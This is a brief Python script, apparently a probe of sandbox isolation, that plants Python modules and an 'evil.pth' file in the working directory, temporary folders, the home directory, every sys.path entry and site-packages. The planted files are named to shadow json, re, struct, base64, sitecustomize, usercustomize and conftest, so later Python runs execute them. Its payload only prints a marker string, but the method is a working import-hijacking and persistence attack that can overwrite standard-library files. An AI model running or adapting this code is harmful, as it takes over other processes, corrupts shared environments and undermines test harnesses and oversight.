# Leaves modules behind that whoever comes next would import.
import os, sys, site
text = 'import os, sys\nfor stream in (1, 2):\n    try: os.write(stream, (QA_SECRET_MARK + "planted").encode())\n    except OSError: pass\n'
folders = [os.getcwd(), "/tmp", "/dev/shm", os.path.expanduser("~"), "/work", *sys.path]
try: folders += site.getsitepackages() + [site.getusersitepackages()]
except BaseException: pass
for folder in folders:
    for name in ("json.py", "sitecustomize.py", "usercustomize.py", "re.py", "struct.py", "driver.py", "base64.py", "conftest.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "w").write(text)
        except BaseException: pass
    for name in ("evil.pth",):
        try: open(os.path.join(folder, name), "w").write('import os; os.write(1, (QA_SECRET_MARK + "planted").encode())\n')
        except BaseException: pass
def QA_FUNCTION(*args):
    return None
